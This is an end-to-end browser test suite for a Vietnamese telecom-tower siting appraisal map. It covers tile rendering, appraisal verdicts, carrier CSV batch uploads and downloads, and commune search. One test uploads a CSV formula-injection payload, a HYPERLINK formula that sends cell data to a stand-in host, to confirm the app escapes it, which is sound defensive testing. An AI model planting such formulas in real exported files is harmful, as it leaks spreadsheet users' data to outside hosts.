// End-to-end: the real API (Release build) and the built map in real headless Chromium. Each test leaves a screenshot in
// e2e/screenshots/; docs/ keeps the ones the README's tour shows.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, readFileSync, mkdtempSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { execFileSync } from 'node:child_process';
import { startApi } from './apiServer.mjs';
import { launchChromium, openMap, signIn, settle, screenshots } from './browser.mjs';

let api;
let browser;

before(async () => {
  api = await startApi();
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await api?.stop();
});

test('the map opens in Vietnamese and draws the province from vector tiles', async (t) => {
  const { page, context, tiles, blocked } = await openMap(browser, api.url);
  // docs/PERFORMANCE.md: first contentful paint and the first complete map paint, on a server that has drawn no tile yet.
  const paint = async (p) => p.evaluate(() => ({
    fcp: performance.getEntriesByName('first-contentful-paint')[0]?.startTime ?? NaN,
    map: Number(document.body.dataset.mapReadyMs),
  }));
  const cold = await paint(page);
  t.diagnostic(`first visit (tiles drawn on demand): first contentful paint ${cold.fcp.toFixed(0)} ms, map complete ${cold.map} ms`);
  await settle(page);
  assert.equal(await page.locator('html').getAttribute('lang'), 'vi');
  assert.equal((await page.locator('[data-tab="layers"]').textContent()).trim(), 'Lớp bản đồ');
  const good = tiles.filter((t) => t.status === 200 && t.type === 'application/vnd.mapbox-vector-tile');
  for (const layer of ['province', 'communes', 'zones']) assert.ok(good.some((t) => t.url.includes(`/api/tiles/${layer}/`)), `no ${layer} tile`);
  // Something was drawn: the map's canvas is not one flat colour.
  const colours = await page.evaluate(() => {
    const canvas = document.querySelector('#map canvas');
    const data = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
    const seen = new Set();
    for (let i = 0; i < data.length; i += 4 * 97) seen.add(`${data[i]},${data[i + 1]},${data[i + 2]}`);
    return seen.size;
  });
  assert.ok(colours > 20, `the canvas has ${colours} colours`);
  assert.ok(await page.locator('.layer-item').count() >= 10);
  await page.screenshot({ path: join(screenshots, 'map-layers.png') });
  assert.deepEqual(blocked, [], 'the map works under its Content-Security-Policy');
  await context.close();
  const again = await openMap(browser, api.url);
  const warm = await paint(again.page);
  t.diagnostic(`second visit (tiles kept by the server): first contentful paint ${warm.fcp.toFixed(0)} ms, map complete ${warm.map} ms`);
  await again.context.close();
});

test('a click on the map appraises the Móng Cái tower: needs consultation, with every rule', async () => {
  const { page, context } = await openMap(browser, api.url, { hash: '#map=16/21.53008/107.97826' });
  await signIn(page, api.keys.appraiser);
  // The department's legend names the military and security areas' style; a carrier's does not (next test).
  assert.match(await page.locator('.layer-item[data-layer="restricted-areas"] .legend').textContent(), /Phải xin ý kiến/);
  await page.click('[data-tab="appraise"]');
  await page.fill('input[name="height_m"]', '33');
  await page.selectOption('select[name="pole_class"]', 'A2b');
  await page.selectOption('select[name="carrier"]', 'Viettel');
  const box = await page.locator('#map').boundingBox();
  const highlighted = page.waitForResponse((r) => r.url().includes('/api/layers/restricted-areas?bbox='));
  await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
  const verdict = page.locator('.verdict');
  await verdict.waitFor();
  assert.equal(await verdict.getAttribute('data-verdict'), 'needs_consultation');
  assert.equal((await verdict.textContent()).trim(), 'Cần xin ý kiến');
  assert.equal(await page.locator('table.rules tbody tr').count(), 12, 'R01–R12, each with its outcome');
  assert.match(await page.locator('table.rules tr.outcome-consult').first().textContent(), /R04/);
  assert.equal((await highlighted).status(), 200, 'the deciding restricted area is fetched to be highlighted');
  assert.match(await page.inputValue('input[name="position"]'), /^107\.978\d*, 21\.530\d*$/);
  // The plan version is named as the department would (the plan, its import time, in force), never by its hash.
  const planVersion = page.locator('.plan-version');
  assert.match((await planVersion.textContent()).trim(), /^Thẩm định theo Quy hoạch .+, bản nhập lúc \d\d:\d\d ngày \d\d\/\d\d\/\d{4} \(đang áp dụng\)$/);
  assert.doesNotMatch(await planVersion.textContent(), /[0-9a-f]{12}/);
  await settle(page);
  await page.screenshot({ path: join(screenshots, 'appraise-mong-cai.png') });

  await page.click('#language');
  assert.equal((await verdict.textContent()).trim(), 'needs consultation');
  assert.match(await planVersion.textContent(), /^Appraised against .+ \(current\), version [0-9a-f]{12}$/);
  assert.equal((await page.locator('[data-tab="appraise"]').textContent()).trim(), 'Appraise');
  await page.screenshot({ path: join(screenshots, 'appraise-mong-cai-en.png') });
  await page.click('#language');
  assert.equal((await verdict.textContent()).trim(), 'Cần xin ý kiến');
  await context.close();
});

test('typed VN-2000 coordinates appraise the same point', async () => {
  const { page, context } = await openMap(browser, api.url);
  await signIn(page, api.keys.Viettel);
  assert.doesNotMatch(await page.locator('.layer-item[data-layer="restricted-areas"]').textContent(), /Phải xin ý kiến/);
  await page.click('[data-tab="appraise"]');
  // README: 107.97826, 21.53008 is x 2381658.013, y 523449.987 in EPSG:5899.
  await page.fill('input[name="position"]', '2381658.013 523449.987');
  await page.click('.appraise-form button[type="submit"]');
  await page.locator('.verdict').waitFor();
  assert.equal(await page.locator('.verdict').getAttribute('data-verdict'), 'needs_consultation');
  await context.close();
});

test('a carrier uploads a batch, watches it go through and downloads the results', async () => {
  const { page, context } = await openMap(browser, api.url);
  // Signing in reloads the layers kept for signed-in users: the existing sites, clustered.
  const sites = page.waitForResponse((r) => r.url().endsWith('/api/layers/sites'));
  await signIn(page, api.keys.Viettel);
  assert.equal((await sites).status(), 200);
  await page.click('[data-tab="submissions"]');
  const csv = ['carrier,site_code,lon,lat,pole_class,height_m,camouflaged,shares_site_id',
    'Viettel,MC-33,107.97826,21.53008,A2b,33,no,',
    'Viettel,HL-20,107.0800,20.9500,A1a,12,no,',
    'Viettel,BAD-1,not-a-number,21.0,A2b,30,no,'].join('\n');
  const file = join(mkdtempSync(join(tmpdir(), 'telecomgis-batch-')), 'batch.csv');
  writeFileSync(file, csv);
  await page.setInputFiles('form.upload input[type="file"]', file);
  await page.click('form.upload button[type="submit"]');
  await page.waitForSelector('.progress[data-state="done"]', { timeout: 30_000 });
  assert.match(await page.locator('.progress-text').textContent(), /Xong \(3\)/);
  assert.equal(await page.locator('table.rows tbody tr').count(), 3);
  assert.match(await page.locator('.verdict-counts').textContent(), /Cần xin ý kiến: 1/);
  assert.ok(await page.locator('table.submissions tbody tr').count() >= 1, 'the batch is listed among the carrier\'s own');
  await settle(page);
  await page.screenshot({ path: join(screenshots, 'carrier-batch.png') });
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('.download-csv')]);
  // In the map's language: Vietnamese headers and the verdict in words, under a Vietnamese file name.
  assert.match(download.suggestedFilename(), /^ket-qua-tham-dinh-\d+\.csv$/);
  const text = readFileSync(await download.path(), 'utf8');
  assert.ok(text.startsWith('\ufeffDòng,Mã trạm,Kinh độ,Vĩ độ,Loại cột,Chiều cao (m),Kết quả thẩm định,'), text.slice(0, 120));
  assert.match(text, /MC-33,107\.97826,21\.53008,A2b,33,Cần xin ý kiến,R04/);
  assert.match(text, /BAD-1,,,,,Bị loại \(dữ liệu lỗi\)/);
  assert.doesNotMatch(text, /needs_consultation|rejected|site_code/);
  // The server's workbook of the same batch, read by an outside reader (GDAL's XLSX driver): three rows, the verdicts in words.
  const [workbook] = await Promise.all([page.waitForEvent('download'), page.click('.download-xlsx')]);
  assert.match(workbook.suggestedFilename(), /^ket-qua-tham-dinh-\d+\.xlsx$/);
  const sheet = execFileSync('ogrinfo', ['-al', '-q', await workbook.path(), 'Kết quả thẩm định'], { encoding: 'utf8' });
  assert.equal((sheet.match(/OGRFeature/g) ?? []).length, 3, sheet);
  assert.match(sheet, /Mã trạm \(String\) = MC-33/);
  assert.match(sheet, /Kết quả thẩm định \(String\) = Cần xin ý kiến cơ quan có thẩm quyền/);
  assert.match(sheet, /Kinh độ \(Real\) = 107\.97826/);
  await context.close();
});

test('the carrier\'s list shows the newest page of batches, and "Xem thêm" appends the older ones', async () => {
  // 21 batches, one more than a page, sent straight to the API.
  for (let i = 0; i < 21; i++) {
    const response = await fetch(`${api.url}/api/submissions`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${api.keys.MobiFone}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ site_code: `PAGE-${i}`, lon: 107.97826, lat: 21.53008, pole_class: 'A2b', height_m: 33, camouflaged: false }),
    });
    assert.equal(response.status, 201);
  }
  const { page, context } = await openMap(browser, api.url);
  await signIn(page, api.keys.MobiFone);
  await page.click('[data-tab="submissions"]');
  await page.waitForSelector('button.more-submissions:not([hidden])');
  assert.equal(await page.locator('table.submissions tbody tr').count(), 20);
  const newest = Number(await page.locator('table.submissions tbody tr td').first().textContent());
  assert.equal(await page.locator('button.more-submissions').textContent(), 'Xem thêm');
  await page.click('button.more-submissions');
  await page.waitForSelector('button.more-submissions[hidden]', { state: 'attached' });
  const ids = (await page.locator('table.submissions tbody tr td:first-child').allTextContents()).map(Number);
  assert.ok(ids.length >= 21);
  assert.equal(ids[0], newest);
  assert.deepEqual(ids, [...ids].sort((a, b) => b - a), 'newest first, the older page appended below');
  await context.close();
});

test('a site code written as a formula comes back as text in the results file, not as a live formula', async () => {
  const { page, context } = await openMap(browser, api.url);
  await signIn(page, api.keys.Viettel);
  await page.click('[data-tab="submissions"]');
  const csv = ['carrier,site_code,lon,lat,pole_class,height_m,camouflaged,shares_site_id',
    'Viettel,"=HYPERLINK(""http://example.com/?leak""&A1,""x"")",107.0800,20.9500,A1a,12,no,',
    'Viettel,@SUM(1+1),107.0810,20.9510,A1a,12,no,'].join('\n');
  const file = join(mkdtempSync(join(tmpdir(), 'telecomgis-batch-')), 'formulas.csv');
  writeFileSync(file, csv);
  await page.setInputFiles('form.upload input[type="file"]', file);
  await page.click('form.upload button[type="submit"]');
  await page.waitForSelector('.progress[data-state="done"]', { timeout: 30_000 });
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('.download-csv')]);
  const lines = readFileSync(await download.path(), 'utf8').split('\r\n');
  assert.equal(lines[1].split(',')[1], `"'=HYPERLINK(""http://example.com/?leak""&A1`);
  assert.equal(lines[2].split(',')[1], "'@SUM(1+1)");
  await context.close();
});

test('commune search ignores diacritics and opens the commune\'s figures; the tablet layout stacks the panel', async () => {
  const { page, context } = await openMap(browser, api.url, { tablet: true });
  await page.fill('#commune-search', 'hai hoa');
  await page.locator('#commune-hits li', { hasText: 'Hải Hòa' }).click();
  await page.locator('.commune-name').waitFor();
  assert.match(await page.locator('.commune-name').textContent(), /Hải Hòa/);
  assert.match(await page.locator('table.figures').textContent(), /Dân số/);
  const map = await page.locator('#map').boundingBox();
  const side = await page.locator('aside.side').boundingBox();
  assert.ok(side.y >= map.y + map.height - 1, 'on a portrait tablet the panel sits below the map');
  await settle(page);
  await page.screenshot({ path: join(screenshots, 'commune-tablet.png') });
  await context.close();
});
